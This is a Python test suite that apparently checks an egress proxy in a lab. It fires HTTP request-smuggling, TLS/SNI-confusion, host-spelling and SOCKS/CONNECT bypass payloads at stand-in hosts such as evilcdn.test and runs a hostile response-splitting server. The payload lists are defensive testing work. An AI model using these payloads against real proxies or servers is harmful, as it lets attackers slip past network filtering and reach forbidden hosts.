# SPDX-License-Identifier: Apache-2.0
"""Attacks from inside by way of the network: messages that are hidden from
whoever judges them, and what a proxy can be talked into."""
import json
import os
import re
import signal

from attack_lab import attack, inside
from harness import check, silent
from lab import CDN, GOOD


def access_log(case):
    with open(case.lab.dir + "/access.log") as f:
        return f.read()


# -- what is on another port ------------------------------------------------


def test_http_hidden_from_the_sniffer(case):
    """On ports other than 80 and 443 HTTP is recognised by its first bytes; what
    a real server (nginx here) takes for a request must be seen as one."""
    run = attack(case, r"""
evil = b" /host HTTP/1.1\r\nHost: evilcdn.test\r\nConnection: close\r\n\r\n"
tries = {
    "long method": b"A" * 65 + evil,
    "very long method": b"A-B_" * 200 + evil,
    "empty lines": [b"\r\n" * 8200, b"GET" + evil],
    "empty lines, LF": [b"\n" * 16400, b"GET" + evil],
    "0.9, whole URL": b"GET http://evilcdn.test/host\r\n",
    "0.9, whole URL, LF": b"GET http://evilcdn.test/host\n",
    "0.9, two spaces": b"GET  http://evilcdn.test/host\r\n",
    "in two": [b"G", b"ET http://evilcdn.test/host\r", b"\n"],
    "lower case version": b"GET /host http/1.1\r\nHost: evilcdn.test\r\n\r\n",
    "tabs": b"GET\t/host\tHTTP/1.1\r\nHost: evilcdn.test\r\n\r\n",
    "ended": b"GET http://evilcdn.test/host HTTP/1.0\nHost: evilcdn.test\n\n",
}
for what, data in tries.items():
    for end in False, True:
        got = say(("allowed.test", 8080), data, end=end, timeout=1.5)
        print("PASSED" if b"evilcdn.test\n" in got else "held", what, end, got[-40:])
""", proxy=False, allow=("allowed.test:8080",))
    check(run.status == 0 and "PASSED" not in run.out, run)


def test_http_behind_a_blank_line(case):
    """Not even the first bytes of such a message may reach the server."""
    run = attack(case, r"""
for data in ([b" \r\nGET /host HTTP/1.1\r\nHost: evilcdn.test\r\n\r\n"],
             [b"GET http://evilcdn.test/\x01", b" HTTP/1.1\r\nHost: evilcdn.test\r\n\r\n"],
             [b"FOO /\x7f", b" HTTP/1.1\r\nHost: evilcdn.test\r\n\r\n"]):
    got = say(("allowed.test", 7000), data, timeout=1)  # it echoes
    print("PASSED" if b"evilcdn" in got else "held", data, got[-60:])
""", proxy=False, allow=("allowed.test:7000",))
    check(run.status == 0 and "PASSED" not in run.out, run)


def test_tls_hidden_from_the_sniffer(case):
    run = attack(case, r"""
h = hello("evilcdn.test"); body = h[5:]
tries = {
    "plain": h,
    "split": record(body[:1]) + record(body[1:3]) + record(body[3:]),
    "alert first": b"\x15\3\1\0\2\1\x5a" + h,
    "change cipher first": b"\x14\3\1\0\1\1" + h,
    "heartbeat first": b"\x18\3\1\0\3\1\0\0" + h,
    "empty record first": b"\x16\3\1\0\0" + h,
    "application data first": b"\x17\3\1\0\0" + h,
    "odd minor": b"\x16\3\7" + h[3:],
    "sslv2": b"\x80\x2e\1\3\1\0\x15\0\0\0\x10" + b"\0\0\x2f" * 7 + b"C" * 16,
    "bytewise": [bytes([b]) for b in h],
    "lines first": b"\r\n" + h,
}
for what, data in tries.items():
    for where in (("allowed.test", 7000),):
        got = say(where, data, 0 if isinstance(data, list) else 0.05, timeout=0.7)
        print("PASSED" if b"evilcdn" in got or b"CCCCCCCC" in got else "held", what, got[:20])
""", proxy=False, allow=("allowed.test:7000",))
    # A line is no TLS that any server takes: it may pass.
    lines = [l for l in run.out.splitlines()
             if "PASSED" in l and "lines first" not in l]
    check(run.status == 0 and not lines, run)


# -- 443 --------------------------------------------------------------------


def test_hello_oddities(case):
    """Two names on one shared host: nothing of such a hello gets there."""
    run = attack(case, r"""
good, evil = b"cdn.test", b"evilcdn.test"
h = hello("evilcdn.test"); ok = hello("cdn.test")
pad = ext(21, b"\0" * 17000)
tries = {
    "two names": record(client_hello(sni(good, evil))),
    "two names, other order": record(client_hello(sni(evil, good))),
    "two extensions": record(client_hello(sni(good), sni(evil))),
    "extension twice": record(client_hello(sni(good), ext(10, b"\0\2\0\x1d"), ext(10, b"\0\2\0\x17"))),
    "NUL": record(client_hello(sni(good + b"\0." + evil))),
    "dot": record(client_hello(sni(good + b"."))),
    "space": record(client_hello(sni(good + b" "))),
    "address": record(client_hello(sni(b"93.184.216.40"))),
    "other name type": record(client_hello(ext(0, b"\0\x0b\1\0\x08cdn.test"))),
    "empty list": record(client_hello(ext(0, b"\0\0"))),
    "empty extension": record(client_hello(ext(0, b""))),
    "no extensions": record(b"\1\0\0\x29\3\3" + b"R" * 32 + b"\0\0\2\xc0\x2f\1\0"),
    "bytes after the extensions": record(client_hello(sni(good), tail=b"\0")),
    "long session": record(client_hello(sni(good), session=b"s" * 33)),
    "two messages, one record": record(client_hello(sni(good)) + client_hello(sni(evil))),
    "cut in the second": record(client_hello(sni(good)) + client_hello(sni(evil))[:9]),
    "two records, wrong name": record(h[5:40]) + record(h[40:]),
    "wrong name behind 17 kB": record(client_hello(pad, sni(evil))[:16384]) + record(client_hello(pad, sni(evil))[16384:]),
    "length lies": b"\x16\3\1\xff\xff" + h[5:],
    "32 kB": b"".join(record(b"\1\0\xff\xff" + b"x" * 9000) for _ in range(8)),
    "sslv2": b"\x80\x2e\1\3\1\0\x15\0\0\0\x10" + b"\0\0\x2f" * 7 + b"C" * 16,
    "alert first": b"\x15\3\1\0\2\1\x5a" + ok,
    "http": b"GET / HTTP/1.1\r\nHost: cdn.test\r\n\r\n",
    "case": record(client_hello(sni(b"EVILcdn.test"))),
}
def through(kind):
    s = dial((GW, PORT) if kind else ("cdn.test", 443))
    if kind == "connect":
        s.sendall(b"CONNECT CDN.test.:443 HTTP/1.1\r\nHost: cdn.test\r\n\r\n"); s.recv(4096)
    if kind == "socks":
        s.sendall(b"\5\1\0"); s.recv(2)
        s.sendall(b"\5\1\0\3\x08cdn.test\1\xbb"); s.recv(10)
    return s
n = 0
for kind in "", "connect", "socks":
    for what, data in tries.items():
        try:
            s = through(kind); s.settimeout(1); s.sendall(data); s.shutdown(1); rest(s); n += 1
        except OSError: n += 1
print("tried", n)
""", allow=("cdn.test",))
    check("tried 72" in run.out, run)
    sent = case.lab.packets(f"dst host {CDN} and port 443 and tcp[13] & 8 != 0")
    check(not sent, sent)


# -- HTTP -------------------------------------------------------------------


def test_http_smuggling(case):
    """No request but those that were judged reaches the server."""
    run = attack(case, r"""
inner = b"GET /smuggled HTTP/1.1\r\nHost: evilcdn.test\r\n\r\n"
def post(*fields, body=inner, version=b"1.1", target=b"/upload"):
    return (b"POST " + target + b" HTTP/" + version + b"\r\nHost: cdn.test\r\n" +
            b"".join(f + b"\r\n" for f in fields) + b"\r\n" + body)
n = b"Content-Length: %d" % len(inner)
c = b"Transfer-Encoding: chunked"
last = b"0\r\n\r\n"
tries = [
    post(n, c, body=last + inner), post(c, n, body=last + inner),
    post(b"Content-Length: 0", n), post(b"Content-Length: 0, %d" % len(inner)),
    post(b"Content-Length: +0"), post(b"Content-Length: -1"), post(b"Content-Length: 0x0"),
    post(b"Content-Length: 99999999999999999999"), post(b"Content-Length : 0"),
    post(b"Content-Length: 0 0"), post(b"Content-Length:\t0\x0b"),
    post(b"Content-Length:"), post(b"content_length: 0", n),
    post(b"Transfer-Encoding: chunkedx", body=last + inner),
    post(b"Transfer-Encoding: x, chunked", body=last + inner),
    post(b"Transfer-Encoding: chunked, identity", body=last + inner),
    post(b"Transfer-Encoding: chunked", c, body=last + inner),
    post(b"Transfer-Encoding : chunked", n, body=last + inner),
    post(b"Transfer-Encoding:\x0bchunked", n, body=last + inner),
    post(b"Transfer-Encoding: \"chunked\"", body=last + inner),
    post(b"Transfer-Encoding:\r\n chunked", n, body=last + inner),
    post(b"X: y\r\n\tTransfer-Encoding: chunked", n), post(c, version=b"1.0", body=last + inner),
    post(b"X: y\rTransfer-Encoding: chunked", n), post(b"X: y\nTransfer-Encoding: chunked", n),
    post(b"X: \0", n), post(b": x", n), post(b"X", n),
    post(c, body=b"+0\r\n\r\n" + inner), post(c, body=b"0x0\r\n\r\n" + inner),
    post(c, body=b"0\n\n" + inner), post(c, body=b"0 \r\n\r\n" + inner),
    post(c, body=b"0;a=\"\r\n\r\n" + inner), post(c, body=b"0;a\nb\r\n\r\n" + inner),
    post(c, body=b"10000000000000000\r\n\r\n" + inner), post(c, body=b"-1\r\n" + inner),
    post(c, body=b"3\r\nabcXX0\r\n\r\n" + inner), post(c, body=b"3\r\nabc\r0\r\n\r\n" + inner),
    post(c, body=b"0\r\nHost: evilcdn.test\r\n\r\n" + inner),
    post(c, body=b"0\r\nContent-Length: 9\r\n\r\n" + inner),
    post(c, body=b"0\r\nGET /smuggled HTTP/1.1\r\nHost: evilcdn.test\r\n\r\n"),
    post(b"Expect: 100-continue", n), post(b"Expect: 200-ok", n),
    post(b"Connection: Transfer-Encoding", c, body=last + inner),
    post(b"Connection: Host, Content-Length", n), post(b"Connection: close", body=inner),
    post(b"Connection: Upgrade, HTTP2-Settings", b"Upgrade: h2c", b"HTTP2-Settings: AAMAAABk", body=inner),
    post(b"Upgrade: websocket", b"Connection: Upgrade", body=inner),
    post(b"Host: evilcdn.test"), post(b"hOST:evilcdn.test"), post(b"Host : evilcdn.test"),
    b"GET /smuggled HTTP/1.1\r\nHost: cdn.test, evilcdn.test\r\n\r\n",
    b"GET /smuggled HTTP/1.1\r\nHost: cdn.test:80, evilcdn.test\r\n\r\n",
    b"GET /smuggled HTTP/1.1\r\nHost: cdn.test@evilcdn.test\r\n\r\n",
    b"GET /smuggled HTTP/1.1\r\nHost: cdn.test:8080\r\n\r\n",
    b"GET /smuggled HTTP/1.1\r\nHost:\r\n\r\n", b"GET /smuggled HTTP/1.1\r\n\r\n",
    b"GET /plain10 HTTP/1.0\r\n\r\n", b"GET /smuggled\r\n", b"GET /smuggled HTTP/0.9\r\n\r\n",
    b"GET /smuggled HTTP/1.2\r\nHost: cdn.test\r\n\r\n", b"GET /smuggled HTTP/2.0\r\nHost: cdn.test\r\n\r\n",
    b"GET http://evilcdn.test/smuggled HTTP/1.1\r\nHost: cdn.test\r\n\r\n",
    b"GET http://cdn.test@evilcdn.test/smuggled HTTP/1.1\r\nHost: cdn.test\r\n\r\n",
    b"GET http://cdn.test\\@evilcdn.test/smuggled HTTP/1.1\r\nHost: cdn.test\r\n\r\n",
    b"GET HTTP://evilcdn.test/smuggled HTTP/1.1\r\nHost: cdn.test\r\n\r\n",
    b"GET http:/smuggled HTTP/1.1\r\nHost: cdn.test\r\n\r\n",
    b"GET evilcdn.test/smuggled HTTP/1.1\r\nHost: evilcdn.test\r\n\r\n",
    b"GET /host HTTP/1.1\r\nHost: evilcdn.test\r\nHost: cdn.test\r\n\r\n",
    b"GET\x0b/smuggled HTTP/1.1\r\nHost: evilcdn.test\r\n\r\n",
    b"CONNECT cdn.test:80 HTTP/1.1\r\nHost: cdn.test:80\r\n\r\n" + inner,
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + inner, inner,
    b"GET /index.html HTTP/1.1\r\nHost: cdn.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n" + inner,
    b"HEAD /index.html HTTP/1.1\r\nHost: cdn.test\r\n\r\n" + inner,
    b"GET /index.html HTTP/1.1\r\nHost: cdn.test\r\n\r\n" + inner,
    b"GET /index.html HTTP/1.0\r\nHost: cdn.test\r\nConnection: keep-alive\r\n\r\n" + inner,
]
def absolute(data):
    m, t, r = data.split(b" ", 2) if data.count(b" ") > 1 else (b"", b"", b"")
    return m + b" http://cdn.test" + t + b" " + r if t.startswith(b"/") else None
bad = 0
def one(data, where):
    global bad
    got = say(where, data, 0, timeout=1)
    if b"evilcdn.test\n" in got: bad += 1; print("REACHED", data, got[-200:])
    if got.count(b"HTTP/1.1 200") > 1: bad += 1; print("TWO", data, got)
threads = []
for data in tries:
    for d, where in ((data, ("cdn.test", 80)), (data, (GW, PORT)), (absolute(data), (GW, PORT))):
        if d:
            threads.append(threading.Thread(target=one, args=(d, where)))
            threads[-1].start()
            if len(threads) % 40 == 0: [t.join() for t in threads]
[t.join() for t in threads]
print("tried", len(tries), "bad", bad)
""", allow=("cdn.test",))
    check("bad 0" in run.out and "REACHED" not in run.out, run)
    check("smuggled" not in access_log(case), access_log(case)[-3000:])


def test_path_forms(case):
    """Log and server see the same path, and no dots reach the server."""
    run = attack(case, r"""
for p in (b"/a/../../x", b"/%2e%2e/x", b"//evil.test/x", b"/..;/x", b"/./host", b"/x%00", b"/x%0d%0aHost:evil"):
    print(p, say((GW, PORT), b"GET http://allowed.test" + p + b" HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n", 0, timeout=20)[:12])
""")
    check(run.status == 0 and run.out.count("HTTP/1.1") == 7, run)
    check("/../" not in access_log(case) and "..;" not in access_log(case))


HOSTILE = r"""
import socket, threading
GOOD = b"HTTP/1.1 200 OK\r\n"
X = b"HTTP/1.1 200 OK\r\nContent-Length: 8\r\n\r\nSMUGGLED"
R = {
 b"clte": GOOD + b"Content-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\nok" + X,
 b"cls": GOOD + b"Content-Length: 2\r\nContent-Length: 3\r\n\r\nok" + X,
 b"two": GOOD + b"Content-Length: 2\r\n\r\nok" + X,
 b"204": b"HTTP/1.1 204 No\r\nContent-Length: 2\r\n\r\n" + X,
 b"304": b"HTTP/1.1 304 No\r\n\r\n" + X,
 b"101": b"HTTP/1.1 101 Switching\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n" + X,
 b"1xx": b"HTTP/1.1 103 Hints\r\n\r\n" * 5000 + X,
 b"fold": GOOD + b"A: b\r\n c\r\nContent-Length: 2\r\n\r\nok" + X,
 b"bare": b"HTTP/1.1 200 OK\nContent-Length: 2\n\nok" + X,
 b"nul": GOOD + b"A\0: b\r\nContent-Length: 2\r\n\r\nok" + X,
 b"many": GOOD + b"A: b\r\n" * 20000 + b"\r\n" + X,
 b"long": GOOD + b"A: " + b"b" * 300000 + b"\r\n\r\n" + X,
 b"chunk": GOOD + b"Transfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\n" + X,
 b"chunk2": GOOD + b"Transfer-Encoding: chunked\r\n\r\n2;a=\"\r\n\"\r\nok\r\n0\r\n\r\n" + X,
 b"te": GOOD + b"Transfer-Encoding: gzip, chunked\r\n\r\n2\r\nok\r\n0\r\n\r\n" + X,
 b"09": b"SMUGGLED\r\n", b"status": b"HTTP/1.1 999 X\r\n\r\n" + X, b"none": b"",
 b"ver": b"HTTP/2.0 200 OK\r\nContent-Length: 2\r\n\r\nok" + X,
 b"space": b"HTTP/1.1  200 OK\r\nContent-Length: 2\r\n\r\nok" + X,
}
def one(c):
    try:
        d = b""
        while b"\r\n\r\n" not in d:
            g = c.recv(4096)
            if not g: return
            d += g
        c.sendall(R.get(d.split(b" ")[1][1:], GOOD + b"Content-Length: 5\r\n\r\nfine!"))
    except OSError: pass
    finally: c.close()
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("%s", 9080)); s.listen(64)
while True:
    c, _ = s.accept(); threading.Thread(target=one, args=(c,), daemon=True).start()
"""


def test_hostile_server(case):
    """Two requests on one client connection: the second one's answer is its
    own, whatever the first one's server said."""
    server = inside(case, HOSTILE % GOOD)
    case.lab.wait(lambda: case.lab.listens(GOOD, 9080), "port 9080")
    words = re.findall(r'b"(\w+)": ', HOSTILE)
    run = attack(case, f"words = {words!r}" + r"""
def one(w):
    for where in (("allowed.test", 9080), (GW, PORT)):
        a = b"http://allowed.test:9080" if where[1] == PORT else b""
        req = b" " + a + b"/%s HTTP/1.1\r\nHost: allowed.test:9080\r\n\r\n"
        for m in b"GET", b"HEAD":
            got = say(where, m + req % w.encode() + b"GET" + req % b"fine", 0, timeout=3)
            print("SPLIT" if b"SMUGGLED" in got else "ok", w, m, len(got), got[:40])
ts = [threading.Thread(target=one, args=(w,)) for w in words]
[t.start() for t in ts]; [t.join() for t in ts]
print("alive", say(("allowed.test", 9080), b"GET /fine HTTP/1.1\r\nHost: allowed.test:9080\r\nConnection: close\r\n\r\n", 0, timeout=20)[-5:])
""", allow=("allowed.test:9080",))
    os.kill(server.pid, signal.SIGKILL)
    check(len(words) >= 18 and "alive b'fine!'" in run.out, run)
    check("SPLIT" not in run.out, run)
    check("restart" not in json.dumps(run.records).lower(), "the gate died")


def test_proxy_authorities(case):
    """One meaning per name, in each spelling and door."""
    run = attack(case, r"""
names = [b"evil.test", b"EVIL.test", b"evil.test.", b"allowed.test.evil.test",
    b"allowed.test\0.evil.test", b"evil.test\0.allowed.test", b"allowed.test@evil.test",
    b"evil.test#@allowed.test", b"evil.test/allowed.test", b"evil.test\\.allowed.test",
    b"evil.test%00.allowed.test", b"evil.test%2eallowed.test", b"evil.test:443#allowed.test",
    b"evil.test .allowed.test", b"evil.test\t", b"-evil.test", b"evil..test", b".evil.test",
    b"evil.test:80:443", b"[evil.test]", b"[::ffff:93.184.216.66]", b"::ffff:93.184.216.66",
    b"93.184.216.66", b"93.184.216.66.", b"1572395074", b"0x5db8d842", b"0135.0270.0330.0102",
    b"93.184.55362", b"93.12113986", b"0x5d.0xb8.0xd8.0x42", b"evil.test%eth0", b"*.test", b"*",
    "\uff45vil.test".encode(), "ev\u0131l.test".encode(), b"xn--evil.test", b"evil_.test",
    b"sandbox.localhost", b"localhost", b"ip6-localhost", GW.encode(), b"198.18.0.1", b"198.18.0.7",
    b"0.0.0.0", b"", b"a" * 64 + b".test", b".".join([b"a" * 60] * 5), b"evil.test" + b"." * 2]
bad = 0
def ok(got, what):
    global bad
    if got.startswith(b"HTTP/1.1 2") or got[:2] == b"\5\0" and got[2:4] == b"\5\0":
        bad += 1; print("LET IN", what, got[:60])
for n in names:
    for p in b"443", b"80", b"53":
        ok(say((GW, PORT), b"CONNECT " + n + b":" + p + b" HTTP/1.1\r\nHost: " + n + b":" + p + b"\r\n\r\n", 0, False, 1), n)
    ok(say((GW, PORT), b"GET http://" + n + b"/ HTTP/1.1\r\nHost: " + n + b"\r\n\r\n", 0, False, 1), n)
    if len(n) < 256:
        ok(say((GW, PORT), b"\5\1\0\5\1\0\3" + bytes([len(n)]) + n + b"\1\xbb", 0, False, 1), n)
for req in (b"\5\1\0\5\1\0\1" + socket.inet_aton("93.184.216.66") + b"\1\xbb",
            b"\5\1\0\5\1\0\4" + b"\0" * 10 + b"\xff\xff" + socket.inet_aton("93.184.216.66") + b"\1\xbb",
            b"\5\1\0\5\3\0\3\x0callowed.test\1\xbb", b"\5\1\0\5\2\0\3\x0callowed.test\1\xbb",
            b"\5\1\0\5\1\1\3\x0callowed.test\1\xbb", b"\5\1\0\5\1\0\3\x0callowed.test\0\0",
            b"\5\1\2\1\1a\1b\5\1\0\3\x0callowed.test\1\xbb", b"\5\0\5\1\0\3\x0callowed.test\1\xbb",
            b"\4\1\1\xbb\x5d\xb8\xd8\x42\0", b"\4\1\1\xbb\0\0\0\1\0evil.test\0"):
    ok(say((GW, PORT), req, 0, False, 1), req)
print("bad", bad)
""")
    check("bad 0" in run.out, run)
    silent(case)


def test_proxy_to_itself(case):
    """By its name or address, and through a chain of CONNECTs."""
    run = attack(case, r"""
for n in GW, "allowed.test":
    s = dial((GW, PORT), 20); s.sendall(f"CONNECT {n}:3128 HTTP/1.1\r\nHost: {n}:3128\r\n\r\n".encode())
    print(s.recv(100).split(b"\r\n")[0])
print(say((GW, PORT), b"GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nVia: 1.1 sallyport\r\nConnection: close\r\n\r\n", 0, timeout=20)[:12])
print(say((GW, PORT), b"GET /metrics HTTP/1.1\r\nHost: allowed.test\r\n\r\n", 0, True, 20)[:12])
""")
    check(run.out.count("HTTP/1.1 4") + run.out.count("HTTP/1.1 5") == 4, run)
